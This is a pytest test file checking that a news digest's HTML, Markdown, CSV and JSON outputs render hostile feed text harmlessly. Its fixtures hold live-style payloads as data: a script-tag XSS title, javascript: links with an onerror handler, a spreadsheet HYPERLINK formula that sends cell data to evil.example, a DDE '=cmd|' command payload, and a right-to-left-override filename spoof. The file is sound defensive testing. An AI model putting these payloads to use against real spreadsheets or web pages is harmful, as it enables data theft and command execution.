"""Every text format read back with its own parser, with hostile feed text inside."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from importlib import resources

import pytest
from markdown_it import MarkdownIt

from monitor.digest.build import build_digest
from monitor.digest.render import render
from monitor.digest.tabular import CSV_COLUMNS
from tests.digest_support import NOW, Entry, add_feed, add_issues, days_ago, ingest, schema_errors

SCRIPT_TITLE = "<script>alert('x')</script> Tariffs & </p><b>bold"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/steal?"&A1,"Click")'
MARKDOWN_TITLE = "[Click me](javascript:alert(1)) **now** <img src=x onerror=alert(1)>"
CONTROL_TITLE = "Bell\x07 and\x00 null\x1b[31m red\u202e gnp.exe"


@pytest.fixture
def digest(store):
    add_issues(store)
    globe = add_feed(store, "Globe <i>&</i>", "https://globe.example/rss")
    wire = add_feed(store, "=cmd|'/C calc'!A0", "https://wire.example/rss")
    shared = Entry("Canola tariff cut", days_ago(1), {"tariffs": ("canola", "tariff")},
                   "Ottawa cut the canola tariff. Beijing said it welcomed the step. More.",
                   "https://news.example/canola?a=1&b=2")
    ingest(store, globe, [
        shared,
        Entry(SCRIPT_TITLE, days_ago(2), {"tariffs": ("tariff",), "visit": ("Beijing",)},
              "<b>not bold</b> -1 = @x", "javascript:alert(1)"),
        Entry(FORMULA_TITLE, days_ago(3), {"tariffs": ("tariff",)}, "+1 summary", "data:text/html,x"),
        Entry(MARKDOWN_TITLE, days_ago(4), {"tariffs": ("tariff",)}, "# heading\n- list", "https://ok.example/1"),
        Entry(CONTROL_TITLE, days_ago(5), {"tariffs": ("tariff",)}, "", "https://ok.example/2"),
        Entry("Last week's tariff", days_ago(9), {"tariffs": ("tariff",)}),
    ])
    copy = {k: getattr(shared, k) for k in ("title", "published", "tags", "text", "url")}
    ingest(store, wire, [Entry(guid="wire-1", **copy)])
    return build_digest(store, days_ago(7), None, now=NOW)


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.stack: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ("meta", "br", "link", "img", "input", "hr"):
            self.stack.append(tag)

    def handle_endtag(self, tag):
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes <{self.stack[-1:]}>"
        self.stack.pop()

    def handle_data(self, data):
        self.text.append(data)


def parse_html(data: bytes) -> _Collector:
    parser = _Collector()
    parser.feed(data.decode("utf-8"))
    parser.close()
    return parser


def test_html_is_well_formed_and_feed_text_is_only_text(digest):
    page = parse_html(render(digest, "html"))
    assert page.stack == []
    names = {tag for tag, _ in page.tags}
    assert not names & {"script", "img", "iframe", "object", "embed", "link", "b", "i", "form"}
    text = "".join(page.text)
    for title in (SCRIPT_TITLE, FORMULA_TITLE, MARKDOWN_TITLE, "Globe <i>&</i>"):
        assert title in text
    assert "Bell and null [31m red gnp.exe" in text


def test_html_links_only_to_the_http_links_of_items_and_loads_nothing(digest):
    page = parse_html(render(digest, "html"))
    hrefs = [attrs["href"] for tag, attrs in page.tags if tag == "a"]
    assert sorted(hrefs) == ["https://news.example/canola?a=1&b=2", "https://ok.example/1", "https://ok.example/2"]
    assert not [attrs for _, attrs in page.tags if "src" in attrs]
    assert not [a for _, attrs in page.tags for a in attrs if a.startswith("on")]
    assert not re.search(rb"url\(|@import", render(digest, "html"))


def test_html_says_the_counts_and_the_change_on_the_previous_period(digest):
    text = " ".join("".join(parse_html(render(digest, "html")).text).split())
    assert "5 items, +4 on the previous 7 days." in text
    assert "1 item, +1 on the previous 7 days." in text
    assert "Also in: =cmd|'/C calc'!A0" in text
    assert digest.rules_version in text


def test_html_prints_on_a4_with_its_own_print_style(digest):
    html = render(digest, "html").decode()
    assert "@media print" in html and "size: A4" in html


def test_markdown_renders_feed_text_as_text_and_links_only_http(digest):
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(render(digest, "md").decode())
    page = parse_html(html.encode())
    hrefs = [attrs["href"] for tag, attrs in page.tags if tag == "a"]
    assert sorted(hrefs) == ["https://news.example/canola?a=1&b=2", "https://ok.example/1", "https://ok.example/2"]
    # Only the digest's own structure: nothing a feed wrote became markup.
    assert {tag for tag, _ in page.tags} <= {"h1", "h2", "h3", "ul", "ol", "li", "p", "a", "strong"}
    text = "".join(page.text)
    for title in (SCRIPT_TITLE, FORMULA_TITLE, MARKDOWN_TITLE, "Globe <i>&</i>", "=cmd|'/C calc'!A0"):
        assert title in text
    assert "5 items, +4 on the previous 7 days." in text


def test_markdown_leads_with_the_moves_then_one_heading_per_issue_and_the_feed_list(digest):
    headings = re.findall(r"^## (.+)$", render(digest, "md").decode(), re.MULTILINE)
    assert headings == ["Moves since the baseline", "Tariffs and trade", "The visit", "Human rights", "Feeds"]


def read_csv(digest) -> list[dict[str, str]]:
    text = render(digest, "csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_one_row_per_item_and_issue_with_the_documented_columns(digest):
    rows = read_csv(digest)
    assert tuple(rows[0]) == CSV_COLUMNS
    firsts = [(r["issue"], r["title"]) for r in rows][:2]
    assert firsts == [("tariffs", "Canola tariff cut"), ("tariffs", SCRIPT_TITLE)]
    assert len(rows) == 5 + 1
    assert rows[0]["also_in"] == "'=cmd|'/C calc'!A0"
    assert rows[0]["matched_terms"] == "Canola; tariff"


def test_csv_cells_never_start_a_formula(digest):
    for row in read_csv(digest):
        for value in row.values():
            assert not value.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), value
    titles = {r["title"] for r in read_csv(digest)}
    assert "'" + FORMULA_TITLE in titles


def test_json_matches_its_published_schema(digest):
    document = json.loads(render(digest, "json"))
    schema = json.loads(resources.files("resources").joinpath("digest.schema.json").read_text())
    assert schema_errors(document, schema) == []
    assert (document["schema"], document["schema_version"]) == ("cc-monitor/digest", 1)


def test_the_schema_check_catches_a_broken_document(digest):
    document = json.loads(render(digest, "json"))
    schema = json.loads(resources.files("resources").joinpath("digest.schema.json").read_text())
    del document["issues"][0]["items"][0]["url"]
    document["issues"][0]["count"] = "5"
    assert len(schema_errors(document, schema)) == 2


def test_json_carries_counts_links_and_feeds(digest):
    document = json.loads(render(digest, "json"))
    tariffs = document["issues"][0]
    numbers = ("count", "period_total", "previous_total", "change")
    assert [tariffs[key] for key in numbers] == [5, 5, 1, 4]
    assert [i["url"] for i in tariffs["items"]] == [
        "https://news.example/canola?a=1&b=2", None, None, "https://ok.example/1", "https://ok.example/2",
    ]
    assert tariffs["items"][0]["also_in"] == ["=cmd|'/C calc'!A0"]
    feeds = {f["url"]: f["items"] for f in document["feeds"]}
    assert feeds == {"https://globe.example/rss": 5, "https://wire.example/rss": 1}


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json"])
def test_no_control_character_reaches_any_format(digest, fmt):
    text = render(digest, fmt).decode("utf-8")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)
